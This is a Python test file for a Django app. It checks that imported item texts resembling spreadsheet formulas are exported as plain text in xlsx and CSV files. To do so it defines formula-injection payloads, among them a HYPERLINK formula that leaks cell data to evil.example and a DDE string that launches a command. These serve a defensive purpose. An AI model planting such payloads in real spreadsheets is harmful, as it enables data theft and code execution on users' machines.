"""Abuse: item texts written like formulas stay text in every .xlsx and .csv export."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from engine.exports.workbook import csv_safe_row
from engine.models import Evaluation, WorkItem
from tests.factories import run_queued_evaluations
from tests.oversight.scenario import at, build

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&D5,"x")'
DDE = "=cmd|' /C calc'!A0"
OTHERS = ["+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def _cells(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _assert_no_formula(book, payloads):
    seen = set()
    for cell in _cells(book):
        assert cell.data_type != "f", f"{cell.parent.title}!{cell.coordinate} is a formula: {cell.value!r}"
        if isinstance(cell.value, str):
            seen |= {p for p in payloads if p in cell.value}
    assert seen == set(payloads)  # the texts are there, as text


@pytest.fixture
def payload_scenario(world):
    s = build(world)
    # The contents an imported programme file could carry (WorkItem.content is the imported text).
    WorkItem.objects.filter(pk=s.late.pk).update(content=HYPERLINK)
    WorkItem.objects.filter(pk=s.overdue.pk).update(content=DDE)
    return s


@pytest.mark.django_db
def test_the_delay_register_export_holds_no_formula(world, client, payload_scenario):
    client.force_login(world.inspectorate)
    with at("2026-03-25"):
        response = client.get(
            reverse("delay_register"), {"kind": "quarter", "year": 2026, "number": 1, "format": "xlsx"}
        )
    assert response.status_code == 200
    _assert_no_formula(load_workbook(io.BytesIO(response.getvalue())), [HYPERLINK, DDE])


@pytest.mark.django_db
def test_the_evaluation_export_holds_no_formula(
    world, client, payload_scenario, django_capture_on_commit_callbacks
):
    client.force_login(world.evaluator)
    with at("2026-04-03"), django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("evaluation_list"), {"kind": "month", "year": 2026, "number": 3})
        run_queued_evaluations()  # the worker, where a broker is configured
    evaluation = Evaluation.objects.get()
    response = client.get(reverse("evaluation_export", args=[evaluation.pk, "xlsx"]))
    assert response.status_code == 200
    _assert_no_formula(load_workbook(io.BytesIO(response.getvalue())), [HYPERLINK])


def test_the_streaming_writer_keeps_every_trigger_as_text():
    from engine.exports.xlsx_stream import Workbook

    out = io.BytesIO()
    book = Workbook(out)
    sheet = book.sheet("Thử")
    for text in [HYPERLINK, DDE, *OTHERS, "Bình thường", "=1"]:
        sheet.append([text])
    book.close()
    reread = load_workbook(io.BytesIO(out.getvalue()))
    assert [c.data_type for c in _cells(reread)] == ["s"] * 9
    assert reread.active["A1"].value == HYPERLINK


def test_csv_cells_starting_with_a_trigger_get_a_leading_quote():
    out = io.StringIO()
    csv.writer(out).writerow(csv_safe_row([HYPERLINK, DDE, *OTHERS, "Bình thường", 5, -3]))
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert all(cell.startswith("'") for cell in row[:7])
    assert row[7:] == ["Bình thường", "5", "-3"]  # numbers are not text: left alone
